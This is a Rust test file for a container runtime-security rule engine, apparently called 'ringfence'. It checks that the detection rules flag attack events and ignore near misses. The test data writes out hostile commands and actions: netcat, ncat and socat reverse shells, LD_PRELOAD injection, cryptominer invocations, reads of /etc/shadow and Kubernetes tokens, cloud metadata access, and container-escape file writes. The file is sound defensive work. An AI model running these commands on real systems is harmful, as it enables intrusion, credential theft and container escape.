//! Each managed rule: what violates it, and what comes close without doing so. (That the kernel side reports such
//! events for what really happens is tested with containers.)

use ringfence_abi::{Op, flag};
use ringfence_policy::line::address_bytes;
use ringfence_policy::{Catalogue, Observed, Tables, Verdict, compile};

fn tables() -> Tables {
    compile(Catalogue::builtin().rules()).expect("the catalogue compiles")
}

/// Rules that the event violates, by the tables and by the lines.
fn violated(tables: &Tables, event: &Observed) -> Vec<String> {
    let by_table: Vec<_> =
        tables.rules_of(event.class(), &tables.matches(event)).map(|rule| rule.id.to_string()).collect();
    let violates = |line: &ringfence_policy::Line| line.verdict(event) == Verdict::Yes;
    let rules = Catalogue::builtin().rules();
    let by_line: Vec<_> =
        rules.filter(|rule| rule.lines.iter().any(violates)).map(|rule| rule.id.to_string()).collect();
    assert_eq!(by_table, by_line, "{event:?}");
    by_table
}

/// Builds events in one expression.
trait With: Sized {
    fn flags(self, flags: u32) -> Self;
    fn by(self, exe: &str) -> Self;
    fn below(self, ancestors: &[&str]) -> Self;
    fn called(self, args: &[&str]) -> Self;
    fn to(self, address: &str, port: u16) -> Self;
    fn number(self, number: u64) -> Self;
    fn socket(self, family: u8, socket_type: u8) -> Self;
}

impl With for Observed {
    fn flags(self, flags: u32) -> Self {
        Self { flags, ..self }
    }
    fn by(self, exe: &str) -> Self {
        Self { exe: exe.into(), ..self }
    }
    fn below(self, ancestors: &[&str]) -> Self {
        let parent = format!("/usr/bin/{}", ancestors[0]).into_bytes();
        Self { parent, ancestors: ancestors.iter().map(|name| name.as_bytes().to_vec()).collect(), ..self }
    }
    fn called(self, args: &[&str]) -> Self {
        let name = args[0].rsplit('/').next().unwrap_or_default().as_bytes().to_vec();
        let args = args.iter().flat_map(|arg| [arg.as_bytes(), b"\0"].concat()).collect();
        Self { args, other_names: vec![name], ..self }
    }
    fn to(self, address: &str, port: u16) -> Self {
        Self { address: address_bytes(address.parse().expect("an address")), port, ..self }
    }
    fn number(self, number: u64) -> Self {
        Self { number, ..self }
    }
    fn socket(self, family: u8, socket_type: u8) -> Self {
        Self { family, socket_type, ..self }
    }
}

fn at(op: Op, path: &str) -> Observed {
    Observed { path: path.into(), ..Observed::new(op) }
}

fn exec(path: &str) -> Observed {
    at(Op::Exec, path).flags(flag::REGULAR | flag::EXECUTABLE)
}

const READ: u32 = flag::READ | flag::REGULAR;
const WRITE: u32 = flag::WRITE | flag::REGULAR;
const SHELL: &str = "/usr/bin/bash";

/// `event => rules` for each row; no rules: a near miss.
macro_rules! check {
    ($($event:expr => [$($rule:literal),*]),* $(,)?) => {
        let tables = tables();
        $({
            let expected: &[&str] = &[$($rule),*];
            let event = $event;
            assert_eq!(violated(&tables, &event), expected, "{}", stringify!($event));
        })*
    };
}

#[test]
fn programs_started() {
    const PLAIN: u32 = flag::REGULAR | flag::EXECUTABLE;
    check! {
        // RF-101: a terminal, from outside.
        exec("/bin/bash").flags(PLAIN | flag::TTY | flag::ENTRY) => ["RF-101"],
        exec("/bin/busybox").called(&["sh"]).flags(PLAIN | flag::TTY | flag::ENTRY) => ["RF-101"],
        exec("/bin/bash").flags(PLAIN | flag::TTY).below(&["sshd-session", "sshd"]) => ["RF-101"],
        exec("/bin/bash").flags(PLAIN | flag::ENTRY) => [],
        exec("/bin/bash").flags(PLAIN | flag::TTY).below(&["bash"]) => [],
        exec("/usr/bin/python3").flags(PLAIN | flag::TTY | flag::ENTRY) => [],
        // RF-105: a shell that already has the socket.
        exec("/bin/sh").flags(PLAIN | flag::STDIO_SOCKET) => ["RF-105"],
        Observed { parent: b"/usr/sbin/xinetd".to_vec(), ..exec("/bin/sh").flags(PLAIN | flag::STDIO_SOCKET) } => [],
        exec("/usr/sbin/in.tftpd").flags(PLAIN | flag::STDIO_SOCKET) => [],
        // RF-107
        exec("/bin/nc.traditional").called(&["nc", "10.0.0.1", "4444", "-e", "/bin/sh"]) => ["RF-107"],
        exec("/bin/busybox").called(&["/bin/nc", "-lp", "1", "-e/bin/sh"]) => ["RF-107"],
        exec("/usr/bin/ncat").called(&["ncat", "--sh-exec=id", "a", "1"]) => ["RF-107"],
        exec("/usr/bin/socat").called(&["socat", "TCP:a:1", "EXEC:'sh -i',pty"]) => ["RF-107"],
        exec("/bin/dash").called(&["sh", "-i"]).below(&["ncat", "bash"]) => ["RF-107"],
        exec("/bin/nc.openbsd").called(&["nc", "-zv", "a", "1"]) => [],
        exec("/usr/bin/socat").called(&["socat", "TCP-LISTEN:1", "TCP:a:1"]) => [],
        exec("/bin/busybox").called(&["echo", "-e", "nc"]) => [],
        // RF-108
        exec("/dev/shm/x") => ["RF-108"],
        at(Op::Script, "/dev/shm/x.sh").flags(flag::STRING_PATH) => ["RF-108"],
        exec("/opt/dev/shm/x") => [],
        // RF-115
        exec("/memfd:x").flags(PLAIN | flag::NAMELESS) => ["RF-115"],
        exec("/memfd:x").flags(PLAIN | flag::NAMELESS | flag::ENTRY) => ["RF-115"],
        exec("/tmp/gone").flags(PLAIN | flag::NAMELESS | flag::DRIFTED) => ["RF-115"],
        // RF-210: the variable on a command line.
        exec("/usr/bin/env").called(&["env", "LD_PRELOAD=/tmp/x.so", "ls"]) => ["RF-210"],
        exec("/bin/sh").called(&["sh", "-c", "LD_PRELOAD='/tmp/x.so' ls"]) => ["RF-210"],
        exec("/usr/bin/env").called(&["env", "LD_LIBRARY_PATH=/opt", "ls"]) => [],
        // RF-801, RF-802
        exec("/opt/xmrig-6.21/xmrig") => ["RF-801"],
        exec("/tmp/x").called(&["kdevtmpfsi"]) => ["RF-801"],
        exec("/usr/bin/notxmrig") => [],
        exec("/tmp/a").called(&["a", "-o", "stratum+tcp://pool:3333"]) => ["RF-802"],
        exec("/tmp/a").called(&["a", "--url=stratum+ssl://pool:3333"]) => ["RF-802"],
        exec("/bin/sh").called(&["sh", "-c", "./a --donate-level=1"]) => ["RF-802"],
        exec("/tmp/a").called(&["a", "tcp://stratum:3333", "stratum"]) => [],
        // RF-901
        exec("/usr/local/bin/new").flags(PLAIN | flag::UPPER | flag::DRIFTED) => ["RF-901"],
        exec("/tmp/new").flags(PLAIN | flag::TMPFS).below(&["bash"]) => ["RF-901"],
        exec("/usr/bin/touched").flags(PLAIN | flag::UPPER | flag::FROM_IMAGE) => [],
        exec("/data/tool").flags(PLAIN | flag::VOLUME) => [],
        exec("/usr/bin/curl").flags(PLAIN | flag::UPPER | flag::DRIFTED).below(&["sh", "dpkg", "apt-get"]) => [],
        exec("/usr/bin/curl").flags(PLAIN | flag::UPPER | flag::DRIFTED).below(&["a", "b", "c", "d", "e", "f", "g", "h", "apt-get"]) => ["RF-901"],
    }
}

#[test]
fn files_opened() {
    const EXECUTABLE: u32 = flag::REGULAR | flag::EXECUTABLE;
    check! {
        // RF-108, RF-901: a script that a shell reads.
        at(Op::Open, "/dev/shm/x.sh").flags(READ | flag::EXECUTABLE | flag::TMPFS).by(SHELL) => ["RF-108"],
        at(Op::Open, "/dev/shm/data").flags(READ | flag::TMPFS).by(SHELL) => [],
        at(Op::Open, "/dev/shm/x.sh").flags(READ | flag::EXECUTABLE).by("/usr/bin/python3.11") => [],
        at(Op::Open, "/opt/x.sh").flags(READ | EXECUTABLE | flag::DRIFTED).by(SHELL) => ["RF-901"],
        at(Op::Open, "/opt/x.sh").flags(READ | EXECUTABLE).by(SHELL) => [],
        at(Op::Open, "/var/lib/dpkg/info/a.postinst").flags(READ | EXECUTABLE | flag::DRIFTED).by(SHELL).below(&["dpkg"]) => [],
        // RF-905
        at(Op::Mmap, "/opt/lib.so").flags(flag::DRIFTED | flag::UPPER | flag::REGULAR).by(SHELL) => ["RF-905"],
        at(Op::Mmap, "/dev/shm/lib.so").flags(flag::TMPFS | flag::REGULAR).by(SHELL) => ["RF-905"],
        at(Op::Mmap, "/memfd:x").flags(flag::NAMELESS | flag::REGULAR).by(SHELL) => ["RF-905"],
        at(Op::Mmap, "/usr/lib/libssl.so.3").flags(flag::FROM_IMAGE | flag::REGULAR).by(SHELL) => [],
        at(Op::Mmap, "/usr/lib/libssl.so.3").flags(flag::DRIFTED | flag::REGULAR).by("/usr/bin/dpkg") => ["RF-905"],
        at(Op::Mmap, "/opt/lib.so").flags(flag::DRIFTED | flag::REGULAR).by(SHELL).below(&["sh", "dpkg"]) => [],
        at(Op::Open, "/opt/lib.so").flags(READ | flag::DRIFTED).by("/usr/bin/python3") => [],
        // RF-210, RF-211, RF-212, RF-906
        at(Op::Open, "/etc/ld.so.preload").flags(WRITE | flag::CREATED).by(SHELL) => ["RF-210"],
        at(Op::Open, "/etc/ld.so.preload").flags(READ).by(SHELL) => [],
        at(Op::Open, "/lib/ld-musl-x86_64.so.1").flags(WRITE).by(SHELL) => ["RF-211"],
        at(Op::Open, "/usr/lib/x86_64-linux-gnu/libc.so.6").flags(WRITE | flag::EXECUTABLE | flag::FROM_IMAGE).by(SHELL) => ["RF-211", "RF-906"],
        at(Op::Open, "/usr/lib/x86_64-linux-gnu/libc.so.6").flags(WRITE | flag::FROM_IMAGE).by("/usr/bin/dpkg") => [],
        at(Op::Open, "/etc/ld.so.conf.d/x.conf").flags(WRITE).by(SHELL) => ["RF-211"],
        at(Op::Open, "/etc/ld.so.cache~").flags(WRITE).by("/usr/sbin/ldconfig") => [],
        at(Op::Open, "/home/a/libc.so.6").flags(WRITE).by(SHELL) => [],
        at(Op::Open, "/usr/bin/ls").flags(WRITE | flag::EXECUTABLE | flag::FROM_IMAGE).by(SHELL) => ["RF-212", "RF-906"],
        at(Op::Open, "/usr/local/bin/new").flags(WRITE | flag::CREATED).by(SHELL) => ["RF-212"],
        at(Op::Open, "/usr/bin/new").flags(WRITE).by("/usr/bin/cp").below(&["sh", "dpkg"]) => [],
        at(Op::Open, "/usr/bin/ls").flags(READ | flag::EXECUTABLE | flag::FROM_IMAGE).by(SHELL) => [],
        at(Op::Open, "/usr/binary/new").flags(WRITE).by(SHELL) => [],
        at(Op::Open, "/app/run.sh").flags(WRITE | flag::EXECUTABLE | flag::FROM_IMAGE).by(SHELL) => ["RF-906"],
        at(Op::Open, "/usr/lib/libssl.so.3").flags(WRITE | flag::FROM_IMAGE).by(SHELL) => ["RF-906"],
        at(Op::Open, "/usr/lib/python3/os.py").flags(WRITE | flag::FROM_IMAGE).by(SHELL) => [],
        at(Op::Open, "/app/config").flags(WRITE | flag::FROM_IMAGE).by(SHELL) => [],
        // RF-305, RF-307
        at(Op::Open, "/tmp/cg/release_agent").flags(WRITE).by(SHELL) => ["RF-305"],
        at(Op::Open, "/tmp/cg/release_agent").flags(READ).by(SHELL) => [],
        at(Op::Open, "/tmp/cg/notify_on_release").flags(WRITE).by(SHELL) => [],
        at(Op::Open, "/proc/sys/kernel/core_pattern").flags(WRITE).by(SHELL) => ["RF-307"],
        at(Op::Open, "/proc/sys/kernel/core_pattern").flags(READ).by(SHELL) => [],
        at(Op::Open, "/proc/sys/net/core/somaxconn").flags(WRITE).by(SHELL) => [],
        // RF-317, RF-903
        at(Op::Open, "/tmp/s").flags(WRITE | flag::CREATED | EXECUTABLE | flag::SETUID).by(SHELL) => ["RF-317", "RF-903"],
        at(Op::Open, "/tmp/s").flags(WRITE | flag::CREATED | EXECUTABLE).by(SHELL) => ["RF-903"],
        at(Op::Open, "/tmp/s").flags(WRITE | flag::CREATED).by(SHELL) => [],
        at(Op::Open, "/usr/lib/s").flags(WRITE | flag::CREATED | EXECUTABLE).by("/sbin/apk") => [],
        // RF-401
        at(Op::Open, "/var/log/auth.log").flags(WRITE | flag::EMPTIED).by(SHELL) => ["RF-401"],
        at(Op::Open, "/srv/log/wtmp").flags(WRITE | flag::EMPTIED).by(SHELL) => ["RF-401"],
        at(Op::Open, "/var/log/auth.log").flags(WRITE).by(SHELL) => [],
        at(Op::Open, "/var/log/auth.log").flags(WRITE | flag::EMPTIED).by("/usr/sbin/logrotate") => [],
        // RF-501
        at(Op::Open, "/etc/shadow").flags(READ).by("/usr/bin/cat") => ["RF-501"],
        at(Op::Open, "/etc/sudoers.d/x").flags(READ | flag::WRITE).by("/usr/bin/cat") => ["RF-501"],
        at(Op::Open, "/etc/shadow").flags(READ).by("/usr/sbin/sshd") => [],
        at(Op::Open, "/etc/shadow").flags(READ).by("/tmp/usr/sbin/sshd") => ["RF-501"],
        at(Op::Open, "/etc/passwd").flags(READ).by("/usr/bin/cat") => [],
        at(Op::Open, "/etc/sudoers.d").flags(flag::READ).by("/usr/bin/ls") => [],
        // RF-508
        at(Op::Open, "/run/secrets/kubernetes.io/serviceaccount/..2026_01_01/token").flags(READ).by("/usr/bin/curl") => ["RF-508"],
        at(Op::Open, "/var/run/secrets/eks.amazonaws.com/serviceaccount/token").flags(READ).by(SHELL) => ["RF-508"],
        at(Op::Open, "/run/secrets/kubernetes.io/serviceaccount/token").flags(READ).by("/app/server") => [],
        at(Op::Open, "/run/secrets/kubernetes.io/serviceaccount/ca.crt").flags(READ).by("/usr/bin/curl") => [],
        at(Op::Open, "/opt/token").flags(READ).by("/usr/bin/curl") => [],
    }
}

#[test]
fn files_changed() {
    const STRING: u32 = flag::STRING_PATH;
    check! {
        at(Op::RenameTo, "/etc/ld.so.preload").flags(STRING).by(SHELL) => ["RF-210"],
        at(Op::RenameFrom, "/etc/ld.so.preload").flags(STRING).by(SHELL) => [],
        at(Op::Symlink, "/usr/lib64/ld-linux-x86-64.so.2").flags(STRING).by(SHELL) => ["RF-211"],
        at(Op::RenameTo, "/etc/ld.so.cache").flags(STRING).by("/sbin/ldconfig") => [],
        at(Op::LinkTo, "/usr/local/sbin/x").flags(STRING).by(SHELL) => ["RF-212"],
        at(Op::Unlink, "/usr/local/sbin/x").flags(STRING).by(SHELL) => [],
        at(Op::RenameTo, "/usr/bin/x").flags(STRING).by("/usr/bin/update-alternatives").below(&["dpkg"]) => [],
        at(Op::RenameTo, "/cg/release_agent").flags(STRING).by(SHELL) => ["RF-305"],
        at(Op::LinkFrom, "/etc/shadow").flags(STRING).by(SHELL) => ["RF-501"],
        at(Op::RenameFrom, "/etc/shadow").flags(STRING).by("/usr/sbin/usermod") => [],
        // RF-317, RF-902
        at(Op::Chmod, "/tmp/x").flags(STRING | flag::EXECUTABLE | flag::SETUID).by(SHELL) => ["RF-317", "RF-902"],
        at(Op::Chmod, "/tmp/x").flags(flag::REGULAR | flag::EXECUTABLE).by(SHELL) => ["RF-902"],
        at(Op::Chmod, "/tmp/dir").flags(flag::EXECUTABLE | flag::SETUID).by(SHELL) => [],
        at(Op::Chmod, "/var/lib/postgresql/data").flags(STRING | flag::EXECUTABLE).by(SHELL) => [],
        at(Op::Chmod, "/tmp/x").flags(STRING).by(SHELL) => [],
        // RF-401
        at(Op::Truncate, "/var/log/syslog").flags(STRING).by(SHELL) => ["RF-401"],
        at(Op::Truncate, "/var/log/syslog").flags(STRING).number(4096).by(SHELL) => [],
        at(Op::Unlink, "/var/log/nginx/access.log").flags(STRING).by(SHELL) => ["RF-401"],
        at(Op::Unlink, "/tmp/text").flags(STRING).by(SHELL) => [],
    }
}

#[test]
fn sockets() {
    check! {
        Observed::new(Op::Stdio).socket(2, 1).to("192.0.2.1", 4444).by(SHELL) => ["RF-105"],
        Observed::new(Op::Stdio).socket(10, 1).to("2001:db8::1", 4444).by(SHELL) => ["RF-105"],
        Observed::new(Op::Stdio).socket(2, 1).to("127.0.0.1", 4444).by(SHELL) => [],
        Observed::new(Op::Stdio).socket(10, 1).to("::1", 4444).by(SHELL) => [],
        Observed::new(Op::Stdio).socket(2, 1).to("192.0.2.1", 4444).by("/usr/sbin/sshd") => [],
        // RF-314
        Observed { family: 1, ..at(Op::Connect, "/run/docker.sock") }.by(SHELL) => ["RF-314"],
        Observed { family: 1, ..at(Op::Connect, "/run/containerd/s/abc") }.by(SHELL) => ["RF-314"],
        Observed { family: 1, ..at(Op::Connect, "/run/app.sock") }.by(SHELL) => [],
        Observed { family: 1, ..at(Op::Connect, "/run/docker.sock.old") }.by(SHELL) => [],
        // RF-510
        Observed::new(Op::Connect).socket(2, 1).to("169.254.169.254", 80).by(SHELL) => ["RF-510"],
        Observed::new(Op::Packet).socket(10, 0).to("fd00:ec2::254", 80) => ["RF-510"],
        Observed::new(Op::Connect).socket(10, 1).to("::ffff:169.254.169.254", 80).by(SHELL) => ["RF-510"],
        Observed::new(Op::Connect).socket(2, 2).to("169.254.169.254", 53).by(SHELL) => [],
        Observed::new(Op::Connect).socket(2, 1).to("169.254.169.253", 80).by(SHELL) => [],
        Observed::new(Op::Connect).socket(2, 1).to("168.63.129.16", 80).by(SHELL) => ["RF-510"],
        Observed::new(Op::Connect).socket(2, 1).to("168.63.129.16", 53).by(SHELL) => [],
        // RF-513
        Observed::new(Op::Socket).socket(17, 3).by(SHELL) => ["RF-513"],
        Observed::new(Op::Socket).socket(2, 10).by(SHELL) => ["RF-513"],
        Observed::new(Op::Socket).socket(2, 3).by(SHELL) => [],
        Observed::new(Op::Socket).socket(16, 3).by(SHELL) => [],
    }
}

#[test]
fn processes_and_privilege() {
    check! {
        at(Op::MountSource, "/dev/sda1").flags(flag::STRING_PATH).by(SHELL) => ["RF-309"],
        at(Op::MountSource, "/dev/mapper/root").flags(flag::STRING_PATH | flag::FAILED).by(SHELL) => ["RF-309"],
        at(Op::MountSource, "/tmp/vda").flags(flag::STRING_PATH).by(SHELL) => ["RF-309"],
        at(Op::MountSource, "/dev/shm").flags(flag::STRING_PATH).by(SHELL) => [],
        at(Op::MountSource, "/data").flags(flag::STRING_PATH).by(SHELL) => [],
        at(Op::MountTarget, "/dev/sda1").flags(flag::STRING_PATH).by(SHELL) => [],
        Observed::new(Op::Setns).flags(flag::FAILED).by(SHELL) => ["RF-312"],
        // RF-117
        Observed::new(Op::Ring).by(SHELL) => ["RF-117"],
        Observed::new(Op::Memfd).by(SHELL) => [],
        Observed::new(Op::Escape).flags(flag::OTHER_PROCESS).by(SHELL) => ["RF-326"],
        Observed::new(Op::Unshare).number(0x2_0000).by(SHELL) => [],
        // attach, seize, pokedata; traceme, cont
        Observed::new(Op::Ptrace).number(16).by(SHELL) => ["RF-409"],
        Observed::new(Op::Ptrace).number(0x4206).by(SHELL) => ["RF-409"],
        Observed::new(Op::Ptrace).number(5).by(SHELL) => ["RF-409"],
        Observed::new(Op::Ptrace).number(0).by(SHELL) => [],
        Observed::new(Op::Ptrace).number(7).by(SHELL) => [],
    }
}
